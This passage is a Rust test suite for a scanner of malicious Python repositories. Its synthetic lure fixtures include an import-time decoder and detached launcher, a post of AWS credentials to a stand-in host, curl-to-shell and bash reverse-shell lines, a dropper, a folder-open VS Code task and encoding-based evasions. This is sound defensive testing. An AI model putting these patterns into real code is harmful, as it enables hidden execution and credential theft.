//! `squatguard scan` over a synthetic "coding test" repository shaped like the VMConnect lure:
//! a small app with modified vendored copies of `pyperclip` and `pyrebase` whose `__init__.py`
//! decodes and launches a payload on import. The payload is harmless (it decodes to
//! `print("hello")`) and nothing scanned is ever executed: the tests only run squatguard.

use serde_json::Value;
use std::path::Path;
use std::process::{Command, Output};

fn squatguard(dir: &Path, args: &[&str]) -> Output {
    let data_dir = tempfile::tempdir().unwrap();
    Command::new(env!("CARGO_BIN_EXE_squatguard"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .env("SQUATGUARD_DATA_DIR", data_dir.path().display().to_string())
        .env("SQUATGUARD_MAX_DATA_AGE", "100000")
        .output()
        .expect("run squatguard")
}

fn write(root: &Path, rel: &str, content: impl AsRef<[u8]>) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

fn base64(bytes: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let v = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[(v >> (18 - 6 * i)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn hello_payload() -> String {
    "print(\"hello\")\n".repeat(30)
}

const CLIPBOARD: &str = r#""""Cross-platform clipboard functions (vendored copy)."""
import os
import platform
import subprocess

__version__ = "1.8.2"


def copy(text):
    """Copy text to the clipboard."""
    if platform.system() == "Darwin":
        p = subprocess.Popen(["pbcopy", "w"], stdin=subprocess.PIPE, close_fds=True)
        p.communicate(input=text.encode("utf-8"))


def paste():
    """Return the clipboard's text."""
    if platform.system() == "Darwin":
        p = subprocess.Popen(["pbpaste", "r"], stdout=subprocess.PIPE, close_fds=True)
        out, _ = p.communicate()
        return out.decode("utf-8")
    return ""
"#;

/// The lure: the clipboard module plus a module-level call that decodes a blob into the temp
/// directory and launches it detached.
fn tampered_pyperclip() -> String {
    format!(
        r#"{CLIPBOARD}
import base64
import codecs
import sys
import tempfile

_BLOB = "{blob}"
_HOST = codecs.decode("uggcf://rknzcyr.vainyvq", "rot13")
DETACHED_PROCESS = 0x00000008


def _init():
    data = base64.b64decode(_BLOB)
    path = os.path.join(tempfile.gettempdir(), "clip_helper.py")
    with open(path, "wb") as f:
        f.write(data)
    if os.name == "nt":
        subprocess.Popen([sys.executable, path], creationflags=DETACHED_PROCESS)
    else:
        subprocess.Popen([sys.executable, path], preexec_fn=os.setpgrp)


_init()
"#,
        blob = base64(hello_payload().as_bytes())
    )
}

const PYREBASE: &str = r#""""Firebase wrapper (vendored copy)."""
import base64


def initialize_app(config):
    exec(base64.b64decode("cHJpbnQoImhlbGxvIik="))
    return config
"#;

const SETUP_PY: &str = r#"import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("echo hi")


setup(name="password-manager", version="0.1", cmdclass={"install": PostInstall})
"#;

const BENIGN_APP: &str = r#"import ast
import base64
import subprocess

import requests
from flask import Flask

app = Flask(__name__)
ICON = "ICON_PLACEHOLDER"


@app.route("/")
def index():
    r = requests.get("https://example.invalid/api")
    return r.text


def predict(model, s):
    model.eval()
    value = ast.literal_eval(s)
    subprocess.run(["git", "status"], check=True)
    return value
"#;

fn png_literal() -> String {
    let mut png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR".to_vec();
    png.extend((0..300u32).map(|i| (i * 7 % 251) as u8));
    base64(&png)
}

/// Builds the synthetic repository; returns the JSON findings.
fn coding_test_repo(root: &Path) {
    write(
        root,
        "PasswordManager.py",
        "import pyperclip\nimport pyrebase\n\n\ndef main():\n    pyperclip.copy(\"secret\")\n\n\nif __name__ == \"__main__\":\n    main()\n",
    );
    write(root, "requirements.txt", "requests==2.31.0\nflask\n");
    write(root, "pyperclip/__init__.py", tampered_pyperclip());
    write(root, "pyrebase/__init__.py", PYREBASE);
    write(root, "setup.py", SETUP_PY);
    write(
        root,
        "tests/conftest.py",
        "import urllib.request\n\nurllib.request.urlopen(\"http://127.0.0.1:9/\")\n",
    );
    write(root, "x.pth", "import os; os.system(\"true\")\n");
    write(
        root,
        "notify.py",
        "WEBHOOK = \"https://discord.com/api/webhooks/123/abc\"\nBOT = \"https://api.telegram.org/bot123:abc/sendMessage\"\n",
    );
    write(
        root,
        "sync.py",
        "import os\nimport requests\n\nCREDS = os.path.expanduser(\"~/.aws/credentials\")\n\n\ndef sync():\n    requests.post(\"https://example.invalid/u\", data=open(CREDS).read())\n",
    );
    write(
        root,
        "dyn.py",
        "run = getattr(__builtins__, 'ex' + 'ec')\nrun(\"print('hello')\")\n",
    );
    write(
        root,
        "offscreen.py",
        format!("x = 1{}; import os\n", " ".repeat(200)),
    );
    write(
        root,
        "bidi.py",
        "def is_admin(user):\n    access = \"user\u{202E} \u{2066}# admin\u{2069} \u{2066}\"\n    return access == \"admin\"\n",
    );
    let mut mz = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    mz.extend([0u8; 48]);
    write(root, "config.py", mz);
    write(
        root,
        "helper.pyc",
        b"\x55\x0d\x0d\x0a\x00\x00\x00\x00compiled",
    );
    let hex: String = "print(\"hello\")\n"
        .repeat(11)
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert!(hex.len() >= 300);
    write(
        root,
        "assets.py",
        format!(
            "DATA = \"{}\"\nMORE = \"{hex}\"\n",
            base64(hello_payload().as_bytes())
        ),
    );
    write(
        root,
        "webapp/app.py",
        BENIGN_APP.replace("ICON_PLACEHOLDER", &png_literal()),
    );
    write(root, "paths.pth", "/opt/project/lib\n");
}

fn findings(out: &Output) -> Vec<Value> {
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    doc["findings"].as_array().unwrap().clone()
}

/// `scan --format json` of `root`, which must exit 1 (an error found): its findings.
fn scan_failing(root: &Path) -> Vec<Value> {
    let out = squatguard(root, &["scan", "--format", "json"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    findings(&out)
}

fn line_of(root: &Path, file: &str, needle: &str) -> u64 {
    let text = std::fs::read_to_string(root.join(file)).unwrap();
    text.lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("`{needle}` not in {file}")) as u64
        + 1
}

#[track_caller]
fn assert_fires(all: &[Value], rule: &str, file: &str, line: u64, severity: &str) {
    let hit = all.iter().any(|f| {
        f["rule"] == rule && f["file"] == file && f["line"] == line && f["severity"] == severity
    });
    assert!(
        hit,
        "expected {severity}[{rule}] at {file}:{line}; got:\n{}",
        all.iter()
            .map(|f| format!(
                "{}:{} {}[{}] {}",
                f["file"], f["line"], f["severity"], f["rule"], f["message"]
            ))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

#[test]
fn every_rule_fires_on_the_coding_test_repository() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    coding_test_repo(root);
    let all = scan_failing(root);
    let pc = "pyperclip/__init__.py";
    let init_call = tampered_pyperclip()
        .lines()
        .position(|l| l == "_init()")
        .unwrap() as u64
        + 1;
    assert_fires(&all, "import-time-code", pc, init_call, "error");
    assert_fires(
        &all,
        "hidden-process",
        pc,
        line_of(root, pc, "creationflags=DETACHED"),
        "error",
    );
    assert_fires(
        &all,
        "hidden-process",
        pc,
        line_of(root, pc, "preexec_fn=os.setpgrp"),
        "error",
    );
    assert_fires(
        &all,
        "encoded-blob",
        pc,
        line_of(root, pc, "_BLOB = "),
        "error",
    );
    assert_fires(
        &all,
        "exfil-endpoint",
        pc,
        line_of(root, pc, "uggcf://"),
        "error",
    );
    assert_fires(&all, "vendored-package", pc, 1, "error");
    let pr = "pyrebase/__init__.py";
    assert_fires(&all, "decode-exec", pr, line_of(root, pr, "exec("), "error");
    // `pyrebase` itself is not among the top packages (its live fork is `pyrebase4`)
    assert!(!all
        .iter()
        .any(|f| f["rule"] == "vendored-package" && f["file"] == pr));
    assert_fires(
        &all,
        "install-time-code",
        "setup.py",
        line_of(root, "setup.py", "os.system"),
        "error",
    );
    assert_fires(
        &all,
        "install-time-code",
        "setup.py",
        line_of(root, "setup.py", "cmdclass="),
        "note",
    );
    assert_fires(&all, "import-time-code", "tests/conftest.py", 3, "error");
    assert_fires(&all, "import-time-code", "x.pth", 1, "error");
    assert_fires(&all, "exfil-endpoint", "notify.py", 1, "warning");
    assert_fires(&all, "exfil-endpoint", "notify.py", 2, "warning");
    assert_fires(&all, "credential-access", "sync.py", 4, "error");
    assert_fires(&all, "obfuscation", "dyn.py", 1, "error");
    assert_fires(&all, "obfuscation", "offscreen.py", 1, "warning");
    assert_fires(&all, "obfuscation", "bidi.py", 2, "warning");
    assert_fires(&all, "disguised-binary", "config.py", 1, "error");
    assert_fires(&all, "disguised-binary", "helper.pyc", 1, "warning");
    // beside setup.py, which may import it by its name on install
    assert_fires(&all, "opaque-code", "helper.pyc", 1, "error");
    assert_fires(&all, "encoded-blob", "assets.py", 1, "warning");
    assert_fires(&all, "encoded-blob", "assets.py", 2, "warning");

    // the encoded blob names what it decodes to
    let blob = all
        .iter()
        .find(|f| f["rule"] == "encoded-blob" && f["file"] == "assets.py" && f["line"] == 1)
        .unwrap();
    assert!(
        blob["message"]
            .as_str()
            .unwrap()
            .contains("print(\"hello\")"),
        "{blob}"
    );

    // benign code stays quiet: nothing above a note in the Flask app, the PNG is at most a note,
    // a .pth holding a path, and the application's own entry point
    for f in &all {
        let file = f["file"].as_str().unwrap();
        if matches!(file, "webapp/app.py" | "paths.pth" | "PasswordManager.py") {
            assert_eq!(f["severity"], "note", "benign code flagged: {f}");
        }
    }
    assert!(!all.iter().any(|f| f["file"] == "paths.pth"));
    assert!(all.iter().any(|f| f["file"] == "webapp/app.py"
        && f["rule"] == "encoded-blob"
        && f["message"].as_str().unwrap().contains("PNG")));
}

#[test]
fn the_untampered_vendored_copy_is_clean() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "PasswordManager.py",
        "import pyperclip\npyperclip.copy('x')\n",
    );
    write(root, "pyperclip/__init__.py", CLIPBOARD);
    let out = squatguard(root, &["scan", "--format", "json"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let all = findings(&out);
    assert!(all.iter().all(|f| f["severity"] == "note"), "{all:?}");
    assert!(all
        .iter()
        .any(|f| f["rule"] == "vendored-package" && f["package"] == "pyperclip"));
}

#[test]
fn select_ignore_and_human_output_work_as_in_check() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    coding_test_repo(root);
    let out = squatguard(root, &["scan", "--select", "SG409", "--format", "json"]);
    let all = findings(&out);
    assert!(!all.is_empty());
    assert!(all.iter().all(|f| f["rule"] == "disguised-binary"));
    let out = squatguard(
        root,
        &[
            "scan",
            "--ignore",
            "SG401,SG403,SG404,SG405,SG406,SG407,SG408,SG409,SG410,SG402,SG411",
        ],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let out = squatguard(root, &["scan", "dyn.py"]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("dyn.py:1:7: error[obfuscation]"), "{text}");
}

#[test]
fn a_missing_directory_cannot_be_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let out = squatguard(dir.path(), &["scan", "nope"]);
    assert_eq!(out.status.code(), Some(2));
}

/// What a lure would ship to switch squatguard off: its own configuration, turning the rules
/// off, declaring every name private and allowing its package, and suppression comments.
fn silencing_attempts(root: &Path) {
    write(
        root,
        "pyproject.toml",
        "[project]\nname = \"password-manager\"\n\n[tool.squatguard]\nignore = [\"decode-exec\", \"typosquat\", \"not-on-pypi\"]\nprivate-packages = [\"*\"]\n\n[tool.squatguard.severity]\nobfuscation = \"note\"\n",
    );
    write(root, "requirements.txt", "reqeusts==2.31.0\n");
    // ignore files hide a manifest from a walk that honours them, not from pip
    write(root, ".gitignore", "requirements-extra.txt\n");
    write(root, "requirements-extra.txt", "colourama==0.4.6\n");
    write(
        root,
        "run.py",
        "import base64\nexec(base64.b64decode(\"cHJpbnQoImhlbGxvIik=\"))  # squatguard: ignore\n",
    );
}

#[test]
fn a_repository_under_inspection_cannot_switch_its_checks_off() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    coding_test_repo(root);
    silencing_attempts(root);
    let out = squatguard(root, &["scan", "--format", "json"]);
    assert_eq!(out.status.code(), Some(1));
    let all = findings(&out);
    assert_fires(&all, "decode-exec", "run.py", 2, "error");
    assert_fires(&all, "typosquat", "requirements.txt", 1, "error");
    assert_fires(&all, "typosquat", "requirements-extra.txt", 1, "error");
    assert_fires(&all, "obfuscation", "dyn.py", 1, "error");
    let commented = all
        .iter()
        .find(|f| f["rule"] == "decode-exec" && f["file"] == "run.py")
        .unwrap();
    // the state is a field of the finding, not text in its message
    assert_eq!(commented["suppression_ignored"], true, "{commented}");
    assert!(
        !commented["message"]
            .as_str()
            .unwrap()
            .contains("squatguard: ignore"),
        "{commented}"
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("`pyproject.toml` not applied") && stderr.contains("--trusted"),
        "{stderr}"
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["summary"]["hidden"], 0);

    // the owner's own repository: configuration and comments apply, and what they hide is counted
    let out = squatguard(root, &["scan", "--trusted", "--format", "json"]);
    let all = findings(&out);
    assert!(
        !all.iter().any(|f| f["file"] == "run.py"
            || f["rule"] == "typosquat"
            || f["rule"] == "not-on-pypi"),
        "{all:?}"
    );
    assert_fires(&all, "obfuscation", "dyn.py", 1, "note");
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let hidden = doc["summary"]["hidden"].as_u64().unwrap();
    assert!(hidden >= 3, "{doc}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("{hidden} findings not shown")) && !stderr.contains("not applied"),
        "{stderr}"
    );

    // a configuration named on the command line is the user's choice, but the repository's
    // comments still do not count
    let mine = tempfile::tempdir().unwrap();
    write(
        mine.path(),
        "squatguard.toml",
        "[severity]\nobfuscation = \"note\"\n",
    );
    let mine = mine.path().join("squatguard.toml");
    let out = squatguard(
        root,
        &[
            "scan",
            "--config",
            mine.to_str().unwrap(),
            "--format",
            "json",
        ],
    );
    let all = findings(&out);
    assert_fires(&all, "obfuscation", "dyn.py", 1, "note");
    assert_fires(&all, "decode-exec", "run.py", 2, "error");
    assert_fires(&all, "typosquat", "requirements.txt", 1, "error");
}

/// Text Python reads differently from a naive reader: a lone `\r` after a comment, a `utf-7`
/// cookie, and math-bold identifiers that Python NFKC-normalises to `exec` and `base64`.
#[test]
fn python_is_read_as_python_reads_it() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let hello = base64(b"print(\"hello\")");
    // to a reader splitting on \n only, the whole file is one comment
    write(
        root,
        "cr/__init__.py",
        format!("# helpers\rimport base64\rexec(base64.b64decode(\"{hello}\"))\n"),
    );
    // `+AGU-xec` is `exec` in UTF-7
    write(
        root,
        "seven.py",
        "#!/usr/bin/env python\n# -*- coding: utf-7 -*-\n+AGU-xec('print(1)')\n",
    );
    write(
        root,
        "bold/__init__.py",
        format!("import \u{1d41b}\u{1d41a}\u{1d42c}\u{1d41e}\u{1d7d4}\u{1d7d2}\nx = 1; \u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(\u{1d41b}\u{1d41a}\u{1d42c}\u{1d41e}\u{1d7d4}\u{1d7d2}.b64decode(\"{hello}\"))\n"),
    );
    // honest Latin-1 source: read, and nothing to say
    write(
        root,
        "latin.py",
        b"# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n".as_slice(),
    );
    // a cookie this scan cannot decode as Python does: the file is not checked, so the run fails
    write(
        root,
        "cyrillic.py",
        b"# -*- coding: iso-8859-5 -*-\nNAME = '\xd0\xd1'\n".as_slice(),
    );
    let all = scan_failing(root);
    assert_fires(&all, "obfuscation", "cyrillic.py", 1, "error");
    let cyr = all.iter().find(|f| f["file"] == "cyrillic.py").unwrap();
    let msg = cyr["message"].as_str().unwrap();
    assert!(
        msg.contains("`iso-8859-5`") && msg.contains("what runs was not checked"),
        "{msg}"
    );
    assert_fires(&all, "decode-exec", "cr/__init__.py", 3, "error");
    assert_fires(&all, "obfuscation", "seven.py", 2, "error");
    assert_fires(&all, "decode-exec", "bold/__init__.py", 2, "error");
    let bold = all
        .iter()
        .find(|f| f["file"] == "bold/__init__.py" && f["rule"] == "decode-exec")
        .unwrap();
    // the column counts the characters of the line as written
    assert_eq!(bold["column"], 8, "{bold}");
    assert!(!all.iter().any(|f| f["file"] == "latin.py"), "{all:?}");
}

/// A zip archive holding `members` (stored, uncompressed), built by hand so the test needs no
/// archiver.
fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    fn crc32(data: &[u8]) -> u32 {
        let mut crc = !0u32;
        for &b in data {
            crc ^= u32::from(b);
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, data) in members {
        let offset = out.len() as u32;
        let crc = crc32(data);
        let head = |sig: u32, central: bool| {
            let mut h = sig.to_le_bytes().to_vec();
            if central {
                h.extend(20u16.to_le_bytes());
            }
            h.extend(20u16.to_le_bytes()); // version needed
            h.extend([0u8; 6]); // flags, method (stored), time
            h.extend(0u16.to_le_bytes()); // date
            h.extend(crc.to_le_bytes());
            h.extend((data.len() as u32).to_le_bytes());
            h.extend((data.len() as u32).to_le_bytes());
            h.extend((name.len() as u16).to_le_bytes());
            h.extend(0u16.to_le_bytes()); // extra
            if central {
                h.extend([0u8; 6]); // comment, disk, internal attributes
                h.extend(0u32.to_le_bytes());
                h.extend(offset.to_le_bytes());
            }
            h.extend(name.as_bytes());
            h
        };
        out.extend(head(0x0403_4b50, false));
        out.extend(*data);
        central.extend(head(0x0201_4b50, true));
    }
    let at = out.len() as u32;
    out.extend(&central);
    out.extend(0x0605_4b50u32.to_le_bytes());
    out.extend([0u8; 4]);
    out.extend((members.len() as u16).to_le_bytes());
    out.extend((members.len() as u16).to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

/// Nothing passes unread: what can be read is (archive members, notebook cells, scripts with a
/// Python shebang, folders a repository names `site-packages` or marks with `pyvenv.cfg`), and
/// what cannot is an `opaque-code` finding, an error inside a package.
#[test]
fn nothing_passes_unread() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let hello = base64(b"print(\"hello\")");
    let payload = format!("import base64\nexec(base64.b64decode(\"{hello}\"))\n");
    write(
        root,
        "setup.py",
        "from setuptools import setup\nsetup(name='app')\n",
    );
    write(root, "app/__init__.py", "from . import _speedups\n");
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend([0u8; 56]);
    write(root, "app/_speedups.cpython-311-x86_64-linux-gnu.so", &elf);
    write(root, "tools/helper.pyd", b"MZ\x90\x00");
    // too large to read, inside the package
    let mut big = "x = 1\n".repeat(1_500_000);
    big.push_str(&payload);
    write(root, "app/tables.py", big);
    // an archive on sys.path with a package inside
    write(
        root,
        "lib/deps.zip",
        zip_of(&[
            ("vendor/__init__.py", payload.as_bytes()),
            ("vendor/_native.so", &elf),
        ]),
    );
    // a notebook's code cell
    let cell = serde_json::to_string(
        &payload
            .lines()
            .map(|l| format!("{l}\n"))
            .collect::<Vec<_>>(),
    )
    .unwrap();
    write(
        root,
        "analysis.ipynb",
        format!(
            "{{\n \"cells\": [\n  {{\n   \"cell_type\": \"markdown\",\n   \"metadata\": {{}},\n   \"source\": [\n    \"# Notes\"\n   ]\n  }},\n  {{\n   \"cell_type\": \"code\",\n   \"metadata\": {{}},\n   \"source\": {}\n  }}\n ],\n \"nbformat\": 4,\n \"nbformat_minor\": 5\n}}\n",
            cell.replacen('[', "[\n    ", 1).replacen(",", ",\n    ", 1).replacen(']', "\n   ]", 1)
        ),
    );
    // a script without an extension, run by a shell script
    write(
        root,
        "bin/run",
        format!("#!/usr/bin/env python3\n{payload}"),
    );
    write(root, "run.sh", "#!/bin/sh\n./bin/run\n");
    // markers the repository controls hide nothing
    write(root, "third_party/site-packages/evil/__init__.py", &payload);
    write(root, "vendored/pyvenv.cfg", "home = /usr/bin\n");
    write(root, "vendored/pkg/__init__.py", &payload);

    let all = scan_failing(root);
    for (rule, file, line, severity) in [
        (
            "opaque-code",
            "app/_speedups.cpython-311-x86_64-linux-gnu.so",
            1,
            "error",
        ),
        ("opaque-code", "tools/helper.pyd", 1, "warning"),
        ("opaque-code", "app/tables.py", 1, "error"),
        ("decode-exec", "lib/deps.zip/vendor/__init__.py", 2, "error"),
        (
            "opaque-code",
            "lib/deps.zip/vendor/_native.so",
            1,
            "warning",
        ),
    ] {
        assert_fires(&all, rule, file, line, severity);
    }
    let nb_line = line_of(root, "analysis.ipynb", "exec(");
    assert_fires(&all, "decode-exec", "analysis.ipynb", nb_line, "error");
    assert_fires(&all, "decode-exec", "bin/run", 3, "error");
    assert_fires(
        &all,
        "decode-exec",
        "third_party/site-packages/evil/__init__.py",
        2,
        "error",
    );
    assert_fires(&all, "decode-exec", "vendored/pkg/__init__.py", 2, "error");
    // a shell script is not Python
    assert!(!all.iter().any(|f| f["file"] == "run.sh"), "{all:?}");

    // the owner's own tree: tool folders by name are skipped, and counted
    let out = squatguard(root, &["scan", "--trusted", "--format", "json"]);
    let all = findings(&out);
    assert!(!all
        .iter()
        .any(|f| f["file"] == "third_party/site-packages/evil/__init__.py"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("skipped 1 path"), "{stderr}");
}

/// The calls and entry points a lure uses to run its payload unseen, each in its own file:
/// aliases of `exec`, `map(exec, ...)`, `runpy` of a file that is not Python, `pickle` of
/// decoded data, `__import__('os')`, a decoded or downloaded command, a thread started at
/// import, a guard that is not a main guard, pytest hooks, `atexit`, a default argument,
/// `exec(open(...).read())` of a data file, a VS Code `folderOpen` task, a download made
/// executable, an in-tree build backend, a download piped to a shell and a reverse shell at
/// import. Payloads are harmless and never run.
#[test]
fn evasions_are_followed() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let hello = base64(b"print(\"hello\")");
    let marker = "echo hello > /tmp/squatguard-marker";
    let payload = format!("import base64\nexec(base64.b64decode(\"{hello}\"))\n");
    let files: &[(&str, String)] = &[
        ("alias/__init__.py", format!("_run = exec\nimport base64\n_run(base64.b64decode(\"{hello}\"))\n")),
        ("mapped/__init__.py", format!("import base64\nlist(map(exec, [base64.b64decode(\"{hello}\")]))\n")),
        ("tests/conftest.py", format!("import base64\n_c = compile\n_e = eval\n_e(_c(base64.b64decode(\"{hello}\"), \"x\", \"exec\"))\n")),
        ("runner/__init__.py", "import runpy\nrunpy.run_path(\"LICENSE.txt\")\n".into()),
        ("LICENSE.txt", payload.clone()),
        ("pickled/__init__.py", format!("import base64, pickle\npickle.loads(base64.b64decode(\"{hello}\"))\n")),
        ("imported/__init__.py", format!("__import__('os').system('{marker}')\n")),
        ("shell/__init__.py", format!("import base64, os\nos.system(base64.b64decode(\"{}\"))\n", base64(marker.as_bytes()))),
        ("fetched/__init__.py", "import requests\nexec(requests.get(\"https://example.invalid/x\").text)\nfrom urllib.request import urlopen\ncode = urlopen(\"https://example.invalid/y\").read()\nexec(code)\n".into()),
        ("threaded/__init__.py", format!("import subprocess, threading\ndef _work():\n    subprocess.run(\"{marker}\", shell=True)\nthreading.Thread(target=_work).start()\n")),
        ("notmain/__init__.py", format!("import os\nif __name__ != \"__main__\":\n    os.system(\"{marker}\")\n")),
        ("hooks/conftest.py", format!("import subprocess\ndef pytest_configure(config):\n    subprocess.run(\"{marker}\", shell=True)\n")),
        ("exiting/__init__.py", format!("import atexit, os\n@atexit.register\ndef _bye():\n    os.system(\"{marker}\")\n")),
        ("default/__init__.py", format!("import os\ndef f(x=os.system(\"{marker}\")):\n    return x\n")),
        ("data/__init__.py", "import os\nexec(open(os.path.join(os.path.dirname(__file__), \"blob.dat\")).read())\n".into()),
        ("data/blob.dat", payload.clone()),
        ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n".into()),
        ("backend.py", format!("import os\nos.system(\"{marker}\")\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    raise NotImplementedError\n")),
        ("piped/__init__.py", "import subprocess\nsubprocess.run(\"curl -s https://example.invalid/x | sh\", shell=True)\n".into()),
        ("reverse/conftest.py", "import subprocess\nsubprocess.call(\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\", shell=True)\n".into()),
        ("dropper/__init__.py", "import os, subprocess, urllib.request\ndef _fetch():\n    path = os.path.expanduser(\"~/.cache/tool\")\n    urllib.request.urlretrieve(\"https://example.invalid/tool\", path)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n_fetch()\n".into()),
        (".vscode/tasks.json", format!("{{\n  // opened, then run\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {{\n      \"label\": \"setup\",\n      \"command\": \"sh\",\n      \"args\": [\"-c\", \"{marker}\"],\n      \"runOptions\": {{ \"runOn\": \"folderOpen\" }},\n    }},\n  ],\n}}\n")),
    ];
    for (path, text) in files {
        write(root, path, text);
    }
    let all = scan_failing(root);
    for (rule, file, line, severity) in [
        ("decode-exec", "alias/__init__.py", 3, "error"),
        ("decode-exec", "mapped/__init__.py", 2, "error"),
        ("decode-exec", "tests/conftest.py", 4, "error"),
        ("import-time-code", "tests/conftest.py", 4, "error"),
        ("decode-exec", "LICENSE.txt", 2, "error"),
        ("decode-exec", "pickled/__init__.py", 2, "error"),
        ("import-time-code", "imported/__init__.py", 1, "warning"),
        ("decode-exec", "shell/__init__.py", 2, "error"),
        ("decode-exec", "fetched/__init__.py", 2, "error"),
        ("decode-exec", "fetched/__init__.py", 5, "error"),
        ("import-time-code", "threaded/__init__.py", 4, "warning"),
        ("import-time-code", "notmain/__init__.py", 3, "warning"),
        ("import-time-code", "hooks/conftest.py", 2, "warning"),
        ("import-time-code", "exiting/__init__.py", 3, "warning"),
        ("import-time-code", "default/__init__.py", 2, "warning"),
        ("decode-exec", "data/blob.dat", 2, "error"),
        ("import-time-code", "data/blob.dat", 2, "error"),
        ("import-time-code", ".vscode/tasks.json", 9, "error"),
        ("hidden-process", "dropper/__init__.py", 5, "error"),
        ("install-time-code", "backend.py", 2, "warning"),
        ("import-time-code", "piped/__init__.py", 2, "error"),
        ("import-time-code", "reverse/conftest.py", 2, "error"),
    ] {
        assert_fires(&all, rule, file, line, severity);
    }
    let task = all
        .iter()
        .find(|f| f["file"] == ".vscode/tasks.json")
        .unwrap();
    assert!(
        task["message"]
            .as_str()
            .unwrap()
            .contains(&format!("`sh -c {marker}`")),
        "{task}"
    );
}

/// An honest project using what the scan now reads and follows stays free of errors and
/// warnings: a notebook, an archive of plain modules, a Latin-1 file, a script with a shebang,
/// a version read with `exec(open(...).read())`, launches inside functions and under a main
/// guard, pytest fixtures and hooks that run nothing, editor tasks run by hand.
#[test]
fn an_honest_project_stays_quiet() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "setup.py",
        "from setuptools import setup\nabout = {}\nexec(open('app/_version.py').read(), about)\nsetup(name='app', version=about['__version__'])\n",
    );
    write(root, "app/_version.py", "__version__ = '1.0'\n");
    write(
        root,
        "app/__init__.py",
        "import subprocess\nimport threading\nfrom functools import partial\n\n\ndef git(*args):\n    return subprocess.run(['git', *args], check=True)\n\n\nstatus = partial(git, 'status')\n\n\ndef start(fn):\n    threading.Thread(target=fn, daemon=True).start()\n",
    );
    write(
        root,
        "app/cli.py",
        "import sys\nfrom . import git\n\n\ndef main(argv=None):\n    git(*(argv or sys.argv[1:]))\n\n\nif __name__ == '__main__':\n    main()\n",
    );
    write(
        root,
        "app/names.py",
        b"# -*- coding: latin-1 -*-\nCITY = 'Montr\xe9al'\n".as_slice(),
    );
    write(
        root,
        "bin/app",
        "#!/usr/bin/env python3\nfrom app.cli import main\nmain()\n",
    );
    write(
        root,
        "tests/conftest.py",
        "import pytest\n\n\ndef pytest_configure(config):\n    config.addinivalue_line('markers', 'slow: slow tests')\n\n\n@pytest.fixture(autouse=True)\ndef tmp_home(tmp_path, monkeypatch):\n    monkeypatch.setenv('HOME', str(tmp_path))\n",
    );
    write(
        root,
        "notebooks/demo.ipynb",
        "{\n \"cells\": [\n  {\n   \"cell_type\": \"code\",\n   \"metadata\": {},\n   \"source\": [\n    \"import app\\n\",\n    \"app.status()\"\n   ]\n  }\n ],\n \"nbformat\": 4,\n \"nbformat_minor\": 5\n}\n",
    );
    write(
        root,
        "vendor/libs.zip",
        zip_of(&[
            ("six.py", b"PY3 = True\n"),
            ("six.pyc", b"\x55\x0d\x0d\x0a"),
        ]),
    );
    write(
        root,
        ".vscode/tasks.json",
